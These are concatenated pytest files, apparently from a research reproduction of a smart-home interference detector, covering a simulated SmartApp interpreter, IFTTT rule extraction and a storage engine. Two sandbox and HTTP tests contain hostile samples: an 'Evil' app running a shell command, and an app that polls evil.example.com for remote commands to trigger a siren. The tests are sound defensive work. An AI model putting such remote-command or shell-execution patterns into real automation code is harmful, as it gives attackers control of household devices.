    handlers = bus.publish(Event("dev1", "motion", "active", 0.0))
    assert handlers == []
    handlers = bus.publish(Event("dev2", "switch", "on", 0.0))
    assert handlers == []


def test_bus_value_filter():
    bus = EventBus()
    bus.subscribe("dev1", "switch", lambda e: None, owner="app",
                  value_filter="on")
    assert bus.publish(Event("dev1", "switch", "on", 0.0))
    assert not bus.publish(Event("dev1", "switch", "off", 0.0))


def test_bus_unsubscribe_owner():
    bus = EventBus()
    bus.subscribe("dev1", "switch", lambda e: None, owner="appA")
    bus.subscribe("dev1", "switch", lambda e: None, owner="appB")
    bus.unsubscribe_owner("appA")
    assert len(bus.publish(Event("dev1", "switch", "on", 0.0))) == 1


# ----------------------------------------------------------------------
# Environment

def test_instant_channel_contribution():
    env = Environment()
    base = env.read("illuminance")
    env.apply_command_effects("lamp", {"illuminance": 400.0})
    assert env.read("illuminance") == base + 400.0
    env.apply_command_effects("lamp", {"illuminance": -400.0})
    assert env.read("illuminance") == base


def test_integrating_channel_rate():
    env = Environment()
    start = env.read("temperature")
    env.apply_command_effects("heater", {"temperature": 0.8})
    env.step(600)  # 10 minutes at +0.8/minute
    assert env.read("temperature") == pytest.approx(start + 8.0)
    env.apply_command_effects("heater", {"temperature": -0.8})
    env.step(600)
    assert env.read("temperature") == pytest.approx(start + 8.0)  # rate gone


def test_channel_clamping():
    env = Environment()
    env.apply_command_effects("x", {"temperature": 1000.0})
    env.step(60000)
    assert env.read("temperature") <= 150  # channel upper bound


# ----------------------------------------------------------------------
# SmartHome devices and events

def test_device_command_changes_state_and_emits_event():
    home = SmartHome()
    home.add_device("Lamp", "light")
    home.device("Lamp").execute("on")
    assert home.device("Lamp").current_value("switch") == "on"
    assert any(e.name == "switch" and e.value == "on"
               for e in home._event_queue)


def test_unsupported_command_raises():
    home = SmartHome()
    home.add_device("Lamp", "light")
    with pytest.raises(ValueError):
        home.device("Lamp").execute("unlock")


def test_install_app_and_trigger():
    home = SmartHome()
    home.add_device("Door", "contactSensor")
    home.add_device("Hall light", "light")
    source = '''
definition(name: "T")
input "c1", "capability.contactSensor"
input "l1", "capability.switch"
def installed() { subscribe(c1, "contact.open", h) }
def h(evt) { l1.on() }
'''
    home.install_app(source, "T", bindings={"c1": "Door", "l1": "Hall light"})
    home.trigger("Door", "contact", "open")
    assert home.device("Hall light").current_value("switch") == "on"
    assert home.commands[-1].command == "on"


def test_value_filtered_subscription_runtime():
    home = SmartHome()
    home.add_device("Door", "contactSensor")
    home.add_device("Lamp", "light", switch="on")
    source = '''
definition(name: "T")
input "c1", "capability.contactSensor"
input "l1", "capability.switch"
def installed() { subscribe(c1, "contact.closed", h) }
def h(evt) { l1.off() }
'''
    home.install_app(source, "T", bindings={"c1": "Door", "l1": "Lamp"})
    home.trigger("Door", "contact", "open")
    assert home.device("Lamp").current_value("switch") == "on"  # filtered out
    home.trigger("Door", "contact", "closed")
    assert home.device("Lamp").current_value("switch") == "off"


def test_runin_delayed_action():
    home = SmartHome()
    home.add_device("Door", "contactSensor")
    home.add_device("Lamp", "light")
    source = '''
definition(name: "T")
input "c1", "capability.contactSensor"
input "l1", "capability.switch"
def installed() { subscribe(c1, "contact.open", h) }
def h(evt) {
    l1.on()
    runIn(300, lampOff)
}
def lampOff() { l1.off() }
'''
    home.install_app(source, "T", bindings={"c1": "Door", "l1": "Lamp"})
    home.trigger("Door", "contact", "open")
    assert home.device("Lamp").current_value("switch") == "on"
    home.advance(301)
    assert home.device("Lamp").current_value("switch") == "off"


def test_chained_execution_across_apps():
    home = SmartHome()
    home.add_device("Button", "button")
    home.add_device("TV", "tv")
    home.add_device("Window", "windowOpener")
    remote = '''
definition(name: "Remote")
input "b1", "capability.button"
input "tv1", "capability.switch"
def installed() { subscribe(b1, "button.pushed", h) }
def h(evt) { tv1.on() }
'''
    opener = '''
definition(name: "Opener")
input "tv2", "capability.switch"
input "w1", "capability.switch"
def installed() { subscribe(tv2, "switch.on", h) }
def h(evt) { w1.on() }
'''
    home.install_app(remote, "Remote", bindings={"b1": "Button", "tv1": "TV"})
    home.install_app(opener, "Opener", bindings={"tv2": "TV", "w1": "Window"})
    home.trigger("Button", "button", "pushed")
    assert home.device("TV").current_value("switch") == "on"
    assert home.device("Window").current_value("switch") == "on"


def test_actuator_race_nondeterminism_across_seeds():
    source_on = '''
definition(name: "OnApp")
input "c1", "capability.contactSensor"
input "w1", "capability.switch"
def installed() { subscribe(c1, "contact.open", h) }
def h(evt) { w1.on() }
'''
    source_off = '''
definition(name: "OffApp")
input "c2", "capability.contactSensor"
input "w2", "capability.switch"
def installed() { subscribe(c2, "contact.open", h) }
def h(evt) { w2.off() }
'''
    outcomes = set()
    for seed in range(12):
        home = SmartHome(seed=seed)
        home.add_device("Door", "contactSensor")
        home.add_device("Window", "windowOpener")
        home.install_app(source_on, "OnApp",
                         bindings={"c1": "Door", "w1": "Window"})
        home.install_app(source_off, "OffApp",
                         bindings={"c2": "Door", "w2": "Window"})
        home.trigger("Door", "contact", "open")
        outcomes.add(home.device("Window").current_value("switch"))
    # The race resolves differently across interleavings (paper §III-A).
    assert outcomes == {"on", "off"}


def test_mode_change_event():
    home = SmartHome()
    home.add_device("Lock", "doorLock")
    source = '''
definition(name: "ModeWatcher")
input "lock1", "capability.lock"
def installed() { subscribe(location, "mode", h) }
def h(evt) {
    if (evt.value == "Home") lock1.unlock()
}
'''
    home.install_app(source, "ModeWatcher", bindings={"lock1": "Lock"})
    home.set_mode("Away")
    assert home.device("Lock").current_value("lock") == "locked"
    home.set_mode("Home")
    assert home.device("Lock").current_value("lock") == "unlocked"


def test_environment_feedback_to_sensors():
    home = SmartHome()
    home.add_device("Heater", "heater")
    home.add_device("Thermo", "temperatureSensor")
    for device in home.devices.values():
        device.sample_channels(home.environment)
    before = home.device("Thermo").current_value("temperature")
    home.device("Heater").execute("on")
    home.environment.apply_command_effects(
        home.device("Heater").id, {"temperature": 0.8, "power": 1500.0}
    )
    home.advance(1800)  # 30 minutes of heating
    after = home.device("Thermo").current_value("temperature")
    assert after > before


def test_scheduled_app_runs():
    home = SmartHome()
    home.add_device("Coffee", "coffeeMaker")
    source = '''
definition(name: "MorningCoffee")
input "coffee1", "capability.switch"
input "startTime", "time"
def installed() { schedule(startTime, brew) }
def brew() { coffee1.on() }
'''
    home.install_app(source, "MorningCoffee",
                     bindings={"coffee1": "Coffee"},
                     settings={"startTime": 21600})
    home.advance(21700)
    assert home.device("Coffee").current_value("switch") == "on"


def test_state_persists_between_handler_runs():
    home = SmartHome()
    home.add_device("Door", "contactSensor")
    source = '''
definition(name: "Counter")
input "c1", "capability.contactSensor"
def installed() { subscribe(c1, "contact.open", h) }
def h(evt) {
    if (!state.count) { state.count = 0 }
    state.count = state.count + 1
    sendPush("opened ${state.count} times")
}
'''
    home.install_app(source, "Counter", bindings={"c1": "Door"})
    home.trigger("Door", "contact", "open")
    home.trigger("Door", "contact", "closed")
    home.trigger("Door", "contact", "open")
    assert home.messages[-1].body == "opened 2 times"


def test_sandbox_bans_dynamic_methods():
    with pytest.raises(SandboxViolation):
        check_method_allowed("evaluate")
    check_method_allowed("subscribe")  # fine


def test_sandbox_enforced_in_interpreter():
    home = SmartHome()
    home.add_device("Door", "contactSensor")
    source = '''
definition(name: "Evil")
input "c1", "capability.contactSensor"
def installed() { subscribe(c1, "contact.open", h) }
def h(evt) {
    "ls".execute()
}
'''
    home.install_app(source, "Evil", bindings={"c1": "Door"})
    home.trigger("Door", "contact", "open")
    assert any("banned" in error for error in home.errors)


def test_uninstall_removes_subscriptions_and_jobs():
    home = SmartHome()
    home.add_device("Door", "contactSensor")
    home.add_device("Lamp", "light")
    source = '''
definition(name: "T")
input "c1", "capability.contactSensor"
input "l1", "capability.switch"
def installed() { subscribe(c1, "contact.open", h) }
def h(evt) { l1.on() }
'''
    home.install_app(source, "T", bindings={"c1": "Door", "l1": "Lamp"})
    home.uninstall_app("T")
    home.trigger("Door", "contact", "open")
    assert home.device("Lamp").current_value("switch") == "off"


def test_http_stub_roundtrip():
    home = SmartHome()
    home.add_device("Siren", "siren")
    home.stub_http("http://evil.example.com/cmd", "siren")
    source = '''
definition(name: "RemoteControlled")
input "alarm1", "capability.alarm"
def installed() { runEvery1Hour(poll) }
def poll() {
    httpGet("http://evil.example.com/cmd") { resp ->
        if (resp.data == "siren") alarm1.siren()
    }
}
'''
    home.install_app(source, "RemoteControlled", bindings={"alarm1": "Siren"})
    home.advance(3700)
    assert home.device("Siren").current_value("alarm") == "siren"
    assert any(m.channel == "http" for m in home.messages)
