"""Tests for IFTTT template rule extraction (paper §VIII-D.4)."""

import pytest

from repro.constraints import TypeBasedResolver
from repro.detector import DetectionEngine, ThreatType
from repro.ifttt import (
    Applet,
    IftttExtractionError,
    chunk_applet,
    extract_applet_rule,
    normalize,
)
from repro.rules import extract_rules
from repro.symex.values import BinExpr, Const, EventValue


def test_normalize_drops_stopwords():
    words = normalize("If the motion is detected, then turn on the light!")
    assert "the" not in words
    assert "motion" in words
    assert "detected" in words


def test_chunking_if_then():
    spans = chunk_applet("If motion is detected, then turn on the light")
    roles = [span.role for span in spans]
    assert roles == ["trigger", "action"]


def test_chunking_with_condition():
    spans = chunk_applet(
        "If the door opens while I am not at home, then sound the siren"
    )
    assert [span.role for span in spans] == ["trigger", "condition", "action"]


def test_chunking_rejects_free_text():
    with pytest.raises(ValueError):
        chunk_applet("hello world no structure here")
    with pytest.raises(ValueError):
        chunk_applet("then do something")


def test_motion_light_applet():
    rule = extract_applet_rule(
        Applet("NightLight", "If motion is detected, then turn on the light")
    )
    assert rule.trigger.attribute == "motion"
    assert rule.trigger.constraint == BinExpr("==", EventValue(), Const("active"))
    assert rule.action.command == "on"
    assert rule.app_name == "NightLight"


def test_numeric_threshold_applet():
    rule = extract_applet_rule(
        Applet("HeatVent", "If the temperature rises above 85, then turn on the fan")
    )
    constraint = rule.trigger.constraint
    assert constraint.op == ">"
    assert constraint.right == Const(85.0)
    assert rule.action.subject.endswith("fan")


def test_presence_lock_applet():
    rule = extract_applet_rule(
        Applet("AutoLock", "If I leave home, then lock the front door")
    )
    assert rule.trigger.attribute == "presence"
    assert rule.action.command == "lock"


def test_sunset_applet():
    rule = extract_applet_rule(
        Applet("EveningShades", "If the sun sets, then close the shades")
    )
    assert rule.trigger.subject == "location"
    assert rule.action.command == "close"


def test_notification_applet():
    rule = extract_applet_rule(
        Applet("LeakAlert", "If a water leak is detected, then notify me")
    )
    assert rule.action.subject == "notification"


def test_unknown_trigger_raises():
    with pytest.raises(IftttExtractionError):
        extract_applet_rule(
            Applet("X", "If the quantum flux peaks, then turn on the light")
        )


def test_unknown_action_raises():
    with pytest.raises(IftttExtractionError):
        extract_applet_rule(
            Applet("X", "If motion is detected, then summon a wizard")
        )


def test_ifttt_rule_participates_in_cai_detection():
    # Cross-platform CAI: an IFTTT applet racing a SmartApp (Table IV's
    # point that HomeGuard supports multiple platforms by design).
    applet_rule = extract_applet_rule(
        Applet("IftttDark", "If motion is detected, then turn off the light")
    )
    smartapp = '''
input "m1", "capability.motionSensor"
input "l1", "capability.switch"
def installed() { subscribe(m1, "motion.active", h) }
def h(evt) { l1.on() }
'''
    smart_rule = extract_rules(smartapp, "MotionLight").rules[0]
    resolver = TypeBasedResolver(type_hints={
        "MotionLight": {"m1": "motionSensor", "l1": "light"},
        "IftttDark": {"IftttDark_trigger": "motionSensor",
                      "IftttDark_light": "light"},
    })
    engine = DetectionEngine(resolver)
    threats = engine.detect_pair(applet_rule, smart_rule)
    assert any(t.type is ThreatType.ACTUATOR_RACE for t in threats)
