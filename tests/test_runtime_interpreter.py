"""Focused tests for the concrete DSL interpreter semantics."""

import pytest

from repro.runtime import SmartHome


def run_app(body: str, devices=None, settings=None, inputs: str = "") -> SmartHome:
    """Install a one-handler app wired to a contact sensor and run it."""
    home = SmartHome(seed=1)
    home.add_device("Door", "contactSensor")
    for label, type_name in (devices or {}).items():
        home.add_device(label, type_name)
    source = f'''
definition(name: "T")
input "c1", "capability.contactSensor"
{inputs}
def installed() {{ subscribe(c1, "contact.open", h) }}
def h(evt) {{
{body}
}}
'''
    bindings = {"c1": "Door"}
    bindings.update({name: name for name in (devices or {})
                     if name in (inputs or "")})
    home.install_app(source, "T", bindings=bindings,
                     settings=settings or {})
    home.trigger("Door", "contact", "open")
    return home


def last_push(home: SmartHome) -> str:
    pushes = [m for m in home.messages if m.channel == "push"]
    return pushes[-1].body if pushes else ""


def test_gstring_interpolation():
    home = run_app('    sendPush("value=${evt.value} name=${evt.name}")')
    assert last_push(home) == "value=open name=contact"


def test_string_methods():
    home = run_app('''
    def s = "  Hello World  "
    sendPush(s.trim().toLowerCase())
''')
    assert last_push(home) == "hello world"


def test_to_integer_on_strings():
    home = run_app('''
    def n = "42".toInteger() + 8
    sendPush("n=${n}")
''')
    assert last_push(home) == "n=50"


def test_arithmetic_and_ternary():
    home = run_app('''
    def x = 7
    def label = (x * 3 > 20) ? "big" : "small"
    sendPush(label)
''')
    assert last_push(home) == "big"


def test_elvis_operator():
    home = run_app('''
    def name = settings.missing ?: "fallback"
    sendPush(name)
''')
    assert last_push(home) == "fallback"


def test_list_operations():
    home = run_app('''
    def xs = [3, 1, 4, 1, 5]
    def big = xs.findAll { it > 2 }
    sendPush("n=${big.size()} sum=${xs.sum()}")
''')
    assert last_push(home) == "n=3 sum=14"


def test_list_collect_and_contains():
    home = run_app('''
    def xs = [1, 2, 3]
    def doubled = xs.collect { it * 2 }
    sendPush("has4=${doubled.contains(4)} first=${doubled.first()}")
''')
    assert last_push(home) == "has4=true first=2"


def test_map_literal_access():
    home = run_app('''
    def m = [alpha: 1, beta: 2]
    sendPush("a=${m.alpha} b=${m["beta"]}")
''')
    assert last_push(home) == "a=1 b=2"


def test_for_in_loop_with_break():
    home = run_app('''
    def total = 0
    for (n in [1, 2, 3, 4, 5]) {
        if (n > 3) { break }
        total = total + n
    }
    sendPush("total=${total}")
''')
    assert last_push(home) == "total=6"


def test_while_loop():
    home = run_app('''
    def i = 0
    while (i < 4) { i = i + 1 }
    sendPush("i=${i}")
''')
    assert last_push(home) == "i=4"


def test_switch_with_default():
    home = run_app('''
    switch (evt.value) {
        case "closed":
            sendPush("closed!")
            break
        default:
            sendPush("default: ${evt.value}")
    }
''')
    assert last_push(home) == "default: open"


def test_switch_fallthrough():
    home = run_app('''
    def hits = 0
    switch ("a") {
        case "a":
            hits = hits + 1
        case "b":
            hits = hits + 1
            break
        case "c":
            hits = hits + 100
            break
    }
    sendPush("hits=${hits}")
''')
    assert last_push(home) == "hits=2"


def test_range_literal():
    home = run_app('''
    def r = 1..4
    sendPush("len=${r.size()} last=${r.last()}")
''')
    assert last_push(home) == "len=4 last=4"


def test_cast_expression():
    home = run_app('''
    def x = "17" as Integer
    sendPush("x=${x + 3}")
''')
    assert last_push(home) == "x=20"


def test_event_device_property():
    home = run_app('    sendPush("from ${evt.device.displayName}")')
    assert last_push(home) == "from Door"


def test_numeric_event_values():
    home = SmartHome()
    home.add_device("Temp", "temperatureSensor")
    source = '''
definition(name: "T")
input "t1", "capability.temperatureMeasurement"
def installed() { subscribe(t1, "temperature", h) }
def h(evt) {
    sendPush("i=${evt.integerValue} d=${evt.doubleValue}")
}
'''
    home.install_app(source, "T", bindings={"t1": "Temp"})
    home.trigger("Temp", "temperature", 72.5)
    assert last_push(home) == "i=72 d=72.5"


def test_device_group_fanout():
    home = SmartHome()
    home.add_device("Door", "contactSensor")
    home.add_device("L1", "light")
    home.add_device("L2", "light")
    source = '''
definition(name: "T")
input "c1", "capability.contactSensor"
input "lights", "capability.switch", multiple: true
def installed() { subscribe(c1, "contact.open", h) }
def h(evt) { lights.on() }
'''
    home.install_app(source, "T",
                     bindings={"c1": "Door", "lights": ["L1", "L2"]})
    home.trigger("Door", "contact", "open")
    assert home.device("L1").current_value("switch") == "on"
    assert home.device("L2").current_value("switch") == "on"


def test_device_group_each_closure_runtime():
    home = SmartHome()
    home.add_device("Door", "contactSensor")
    home.add_device("L1", "light")
    home.add_device("L2", "light")
    source = '''
definition(name: "T")
input "c1", "capability.contactSensor"
input "lights", "capability.switch", multiple: true
def installed() { subscribe(c1, "contact.open", h) }
def h(evt) {
    lights.each { l -> l.on() }
    sendPush("count=${lights.size()}")
}
'''
    home.install_app(source, "T",
                     bindings={"c1": "Door", "lights": ["L1", "L2"]})
    home.trigger("Door", "contact", "open")
    assert home.device("L2").current_value("switch") == "on"
    assert last_push(home) == "count=2"


def test_closure_mutates_outer_variable():
    home = run_app('''
    def total = 0
    [1, 2, 3].each { total = total + it }
    sendPush("total=${total}")
''')
    assert last_push(home) == "total=6"


def test_helper_method_call_with_args():
    home = SmartHome()
    home.add_device("Door", "contactSensor")
    source = '''
definition(name: "T")
input "c1", "capability.contactSensor"
def installed() { subscribe(c1, "contact.open", h) }
def h(evt) {
    sendPush(greet("world"))
}
def greet(name) {
    return "hello " + name
}
'''
    home.install_app(source, "T", bindings={"c1": "Door"})
    home.trigger("Door", "contact", "open")
    assert last_push(home) == "hello world"


def test_default_parameter_value():
    home = SmartHome()
    home.add_device("Door", "contactSensor")
    source = '''
definition(name: "T")
input "c1", "capability.contactSensor"
def installed() { subscribe(c1, "contact.open", h) }
def h(evt) { sendPush(label()) }
def label(prefix = "dev") {
    return prefix + "-1"
}
'''
    home.install_app(source, "T", bindings={"c1": "Door"})
    home.trigger("Door", "contact", "open")
    assert last_push(home) == "dev-1"


def test_settings_values_resolve():
    home = run_app(
        '    sendPush("limit=${limit}")',
        settings={"limit": 42},
        inputs='input "limit", "number"',
    )
    assert last_push(home) == "limit=42"


def test_location_mode_read_and_write():
    home = run_app('''
    if (location.mode == "Home") {
        setLocationMode("Away")
    }
    sendPush("mode=${location.mode}")
''')
    assert last_push(home) == "mode=Away"
    assert home.mode == "Away"


def test_infinite_while_loop_guard():
    home = run_app('''
    while (true) { def x = 1 }
''')
    assert any("budget" in error for error in home.errors)


def test_plus_assignment_on_state():
    home = SmartHome()
    home.add_device("Door", "contactSensor")
    source = '''
definition(name: "T")
input "c1", "capability.contactSensor"
def installed() { subscribe(c1, "contact.open", h) }
def h(evt) {
    if (!state.n) { state.n = 0 }
    state.n += 2
    sendPush("n=${state.n}")
}
'''
    home.install_app(source, "T", bindings={"c1": "Door"})
    home.trigger("Door", "contact", "open")
    home.trigger("Door", "contact", "closed")
    home.trigger("Door", "contact", "open")
    assert last_push(home) == "n=4"


def test_new_date_weekday_format():
    home = run_app('''
    def day = new Date().format("EEEE")
    sendPush(day)
''')
    assert last_push(home) == "Monday"  # sim epoch day 0


def test_time_of_day_is_between():
    home = SmartHome()
    home.clock.advance(10 * 3600)  # 10:00
    home.add_device("Door", "contactSensor")
    source = '''
definition(name: "T")
input "c1", "capability.contactSensor"
def installed() { subscribe(c1, "contact.open", h) }
def h(evt) {
    if (timeOfDayIsBetween("09:00", "17:00", now(), location.timeZone)) {
        sendPush("office hours")
    } else {
        sendPush("after hours")
    }
}
'''
    home.install_app(source, "T", bindings={"c1": "Door"})
    home.trigger("Door", "contact", "open")
    assert last_push(home) == "office hours"
