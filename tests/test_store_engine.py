"""Storage-engine battery (DESIGN.md §14): delta snapshots, crash
recovery, compaction, the SQLite KV backend, and LRU-bounded residency.

The invariants under test:

* per-commit delta journaling is *observably equivalent* to the eager
  full-rewrite path: the canonical parsed store state (apps, shard
  payloads, frontend — including dict order) is byte-identical, and a
  warm start from a delta-built store replays with zero solver calls;
* any truncation of the journal degrades to the state at some earlier
  commit boundary — the longest consistent prefix — never to a crash
  and never to a state that was not durably acknowledged;
* an interrupted compaction (new base durable, journal not yet
  deleted) replays to exactly the compacted state: stale-base records
  are inert;
* offline compaction restores byte-identically and refuses to fold
  over a corrupt base shard;
* the SQLite backend persists the same canonical state as the
  directory backend, and a corrupt database degrades (RuntimeWarning,
  cold start) without deleting the file;
* a service with ``max_resident_homes`` set keeps the resident count
  under the bound during churn while producing reports and store
  states identical to the unbounded service.
"""

import json
import warnings

import pytest

from repro.corpus import app_by_name
from repro.detector import DetectionPipeline, DetectionStore, ShardedRuleIndex
from repro.detector.storage import (
    DirectoryBackend,
    SQLiteStoreBackend,
    make_store_backend,
)
from repro.service import (
    DecisionRequest,
    HomeGuardService,
    InstallRequest,
    SeverityThresholdPolicy,
)

from tests.test_detector_store import ZonedResolver, build_store

KEEP_ALL = dict(policy=SeverityThresholdPolicy(threshold=10**6))

COMFORT_TV = dict(
    app_name="ComfortTV",
    devices={"tv1": "TV", "tSensor": "Temp", "window1": "Window"},
    values={"threshold1": 30},
)
COLD_DEFENDER = dict(
    app_name="ColdDefender",
    devices={"tv2": "TV", "window2": "Window"},
    values={"weather": "rainy"},
)


def canonical_state(store: DetectionStore) -> str | None:
    """The parsed store as one canonical JSON string: apps, shard
    payloads and frontend, with dict *insertion order preserved* (order
    is part of the equivalence contract — journal replay must restore
    installation order exactly)."""
    snapshot = store.load()
    if snapshot is None:
        return None
    return json.dumps(
        {
            "apps": snapshot.apps,
            "shards": {
                env: snapshot.shards[env]
                for env in sorted(snapshot.shards)
            },
            "frontend": snapshot.frontend,
        },
        default=str,
    )


def drive_commits(
    path, rulesets, resolver, backend=None, delta=True, removals=()
):
    """Install apps one commit at a time (the incremental service flow)
    against a store, then remove ``removals``.  Returns the pipeline,
    the store, and the canonical state recorded after every commit."""
    pipeline = DetectionPipeline(resolver, index=ShardedRuleIndex())
    store = DetectionStore(path, backend=backend, delta=delta)
    named = {r.app_name: r for r in rulesets}
    states = []
    for ruleset in rulesets:
        pipeline.detect(ruleset)
        pipeline.commit(ruleset.app_name, ruleset)
        store.commit_app(
            pipeline, ruleset.app_name, rulesets=named,
            frontend={"installed": ruleset.app_name},
        )
        states.append(canonical_state(store))
    for app_name in removals:
        pipeline.discard(app_name)
        pipeline.remove_ruleset(app_name)
        store.commit_app(
            pipeline, app_name, rulesets=named,
            frontend={"removed": app_name}, remove=True,
        )
        states.append(canonical_state(store))
    return pipeline, store, states


# ----------------------------------------------------------------------
# Delta vs eager equivalence


def test_delta_commits_equal_eager_full_saves(tmp_path):
    rulesets, resolver = build_store(8)
    removals = [rulesets[2].app_name]
    _, delta_store, _ = drive_commits(
        tmp_path / "delta", rulesets, resolver, removals=removals
    )
    _, eager_store, _ = drive_commits(
        tmp_path / "eager", rulesets, resolver, delta=False,
        removals=removals,
    )
    assert (delta_store.path / "journal.jsonl").is_file()
    assert not (eager_store.path / "journal.jsonl").exists()
    delta_state = canonical_state(delta_store)
    assert delta_state is not None
    assert delta_state == canonical_state(eager_store)


def test_recommit_moves_app_to_end_like_eager_save(tmp_path):
    rulesets, resolver = build_store(6)
    for arm, delta in (("delta", True), ("eager", False)):
        pipeline, store, _ = drive_commits(
            tmp_path / arm, rulesets, resolver, delta=delta
        )
        # Re-commit the very first app: installation order must rotate
        # it to the end, in the directory and in its shard.
        first = rulesets[0]
        pipeline.detect(first)
        pipeline.commit(first.app_name, first)
        store.commit_app(
            pipeline, first.app_name,
            rulesets={r.app_name: r for r in rulesets},
        )
    delta_state = canonical_state(DetectionStore(tmp_path / "delta"))
    assert delta_state == canonical_state(DetectionStore(tmp_path / "eager"))
    apps = json.loads(delta_state)["apps"]
    assert list(apps)[-1] == rulesets[0].app_name


def test_warm_start_from_delta_store_zero_solver_calls(tmp_path):
    rulesets, resolver = build_store(8)
    cold_pipeline, store, _ = drive_commits(
        tmp_path / "store", rulesets, resolver
    )
    assert cold_pipeline.stats.solver_calls > 0
    result = DetectionStore(tmp_path / "store").warm_start(resolver)
    assert not result.cold
    assert sorted(result.warm_apps) == sorted(r.app_name for r in rulesets)
    assert result.pipeline.stats.solver_calls == 0


def test_commit_receipts_count_bytes_and_seconds(tmp_path):
    rulesets, resolver = build_store(6)
    pipeline = DetectionPipeline(resolver, index=ShardedRuleIndex())
    store = DetectionStore(tmp_path / "store")
    named = {r.app_name: r for r in rulesets}
    receipts = []
    for ruleset in rulesets:
        pipeline.detect(ruleset)
        pipeline.commit(ruleset.app_name, ruleset)
        receipts.append(
            store.commit_app(pipeline, ruleset.app_name, rulesets=named)
        )
    assert receipts[0].full  # no base yet: the first commit seeds one
    assert all(not r.full and not r.compacted for r in receipts[1:])
    assert all(r.bytes_written > 0 and r.seconds >= 0 for r in receipts)
    # A delta commit writes O(changed app): strictly less than the
    # full-store rewrite of the same final state.
    full_bytes = store.save(pipeline, rulesets=named)
    assert max(r.bytes_written for r in receipts[1:]) < full_bytes


def test_journal_size_trigger_compacts(tmp_path):
    rulesets, resolver = build_store(6)
    store = DetectionStore(tmp_path / "store")
    store.journal_max_records = 3
    pipeline = DetectionPipeline(resolver, index=ShardedRuleIndex())
    named = {r.app_name: r for r in rulesets}
    compactions = 0
    for ruleset in rulesets:
        pipeline.detect(ruleset)
        pipeline.commit(ruleset.app_name, ruleset)
        receipt = store.commit_app(
            pipeline, ruleset.app_name, rulesets=named
        )
        compactions += receipt.compacted
        if receipt.compacted:
            assert not (store.path / "journal.jsonl").exists()
    assert compactions >= 1
    assert canonical_state(store) == canonical_state(
        DetectionStore(tmp_path / "store")
    )


# ----------------------------------------------------------------------
# Crash recovery: truncated / corrupt journals, interrupted compaction


def test_truncated_journal_degrades_to_a_commit_boundary(tmp_path):
    rulesets, resolver = build_store(8)
    _, store, states = drive_commits(
        tmp_path / "store", rulesets, resolver,
        removals=[rulesets[1].app_name],
    )
    journal = store.path / "journal.jsonl"
    pristine = journal.read_bytes()
    acknowledged = set(states)
    # Every truncation point — including mid-record tears — must load
    # to exactly one of the acknowledged commit-boundary states.
    for cut in list(range(0, len(pristine), 97)) + [len(pristine) - 1]:
        journal.write_bytes(pristine[:cut])
        state = canonical_state(DetectionStore(store.path))
        assert state is not None
        assert state in acknowledged
    journal.write_bytes(pristine)
    assert canonical_state(DetectionStore(store.path)) == states[-1]


def test_corrupt_mid_journal_record_stops_replay_at_prefix(tmp_path):
    rulesets, resolver = build_store(6)
    _, store, states = drive_commits(tmp_path / "store", rulesets, resolver)
    journal = store.path / "journal.jsonl"
    lines = journal.read_bytes().split(b"\n")[:-1]
    assert len(lines) >= 3
    corrupt_at = 1  # second journal record (third commit overall)
    lines[corrupt_at] = b'{"seq": ' + lines[corrupt_at][10:]
    journal.write_bytes(b"\n".join(lines) + b"\n")
    # Replay stops *before* the corrupt record; later (intact) records
    # must not be applied — a gap would mean serving a fabricated state.
    assert canonical_state(DetectionStore(store.path)) == states[corrupt_at]


def test_interrupted_compaction_leaves_journal_inert(tmp_path):
    rulesets, resolver = build_store(6)
    _, store, states = drive_commits(tmp_path / "store", rulesets, resolver)
    journal = store.path / "journal.jsonl"
    old_journal = journal.read_bytes()
    assert store.compact()
    assert not journal.exists()
    # Crash model: the new base and meta are durable but the journal
    # deletion never happened.  Its records pin the old generation, so
    # replay must ignore every one of them.
    journal.write_bytes(old_journal)
    assert canonical_state(DetectionStore(store.path)) == states[-1]


def test_orphan_shards_from_crashed_compaction_are_ignored(tmp_path):
    rulesets, resolver = build_store(6)
    _, store, states = drive_commits(tmp_path / "store", rulesets, resolver)
    # Crash model: a compaction wrote next-generation shards (even
    # corrupt ones) but never the meta commit point.
    (store.path / "shard-000099-0000.json").write_text("{ torn", "utf-8")
    (store.path / "shard-000099-0001.json.tmp").write_text("x", "utf-8")
    assert canonical_state(DetectionStore(store.path)) == states[-1]
    # The next full save garbage-collects the debris.
    warm = DetectionStore(store.path).warm_start(resolver)
    warm_store = DetectionStore(store.path)
    warm_store.save(warm.pipeline, rulesets={r.app_name: r for r in rulesets})
    assert not (store.path / "shard-000099-0000.json").exists()
    assert not (store.path / "shard-000099-0001.json.tmp").exists()


def test_compaction_restores_byte_identically(tmp_path):
    rulesets, resolver = build_store(8)
    _, store, states = drive_commits(
        tmp_path / "store", rulesets, resolver,
        removals=[rulesets[0].app_name],
    )
    before = canonical_state(store)
    assert before == states[-1]
    assert store.compact()
    assert not (store.path / "journal.jsonl").exists()
    assert canonical_state(DetectionStore(store.path)) == before
    # Idempotent: compacting an already-compacted store changes nothing.
    assert DetectionStore(store.path).compact()
    assert canonical_state(DetectionStore(store.path)) == before


def test_compact_refuses_over_corrupt_base_shard(tmp_path):
    rulesets, resolver = build_store(8)
    _, store, _ = drive_commits(tmp_path / "store", rulesets, resolver)
    shard = next(store.path.glob("shard-*.json"))
    shard.write_text("not json", encoding="utf-8")
    meta_before = (store.path / "meta.json").read_bytes()
    # Folding now would permanently GC the corrupt shard's apps; they
    # must instead keep degrading to transparent re-signing.
    assert not DetectionStore(store.path).compact()
    assert (store.path / "meta.json").read_bytes() == meta_before


# ----------------------------------------------------------------------
# Backend protocol: directory durability details, spec parsing


def test_directory_journal_drops_torn_tail(tmp_path):
    backend = DirectoryBackend(tmp_path / "b")
    backend.append_journal("journal.jsonl", '{"seq": 0}')
    backend.append_journal("journal.jsonl", '{"seq": 1}')
    with open(tmp_path / "b" / "journal.jsonl", "ab") as handle:
        handle.write(b'{"seq": 2, "torn')  # no trailing newline
    assert backend.read_journal("journal.jsonl") == [
        '{"seq": 0}', '{"seq": 1}',
    ]


def test_directory_sweep_clears_crashed_temporaries(tmp_path):
    backend = DirectoryBackend(tmp_path / "b")
    backend.write_doc("meta.json", "{}")
    (tmp_path / "b" / "meta.json.tmp").write_text("partial", "utf-8")
    assert "meta.json.tmp" not in backend.list_docs("meta")
    backend.sweep()
    assert not (tmp_path / "b" / "meta.json.tmp").exists()
    assert backend.read_doc("meta.json") == "{}"


def test_make_store_backend_specs(tmp_path):
    assert isinstance(
        make_store_backend(None, tmp_path), DirectoryBackend
    )
    assert isinstance(
        make_store_backend("dir", tmp_path), DirectoryBackend
    )
    sqlite_backend = make_store_backend("sqlite", tmp_path)
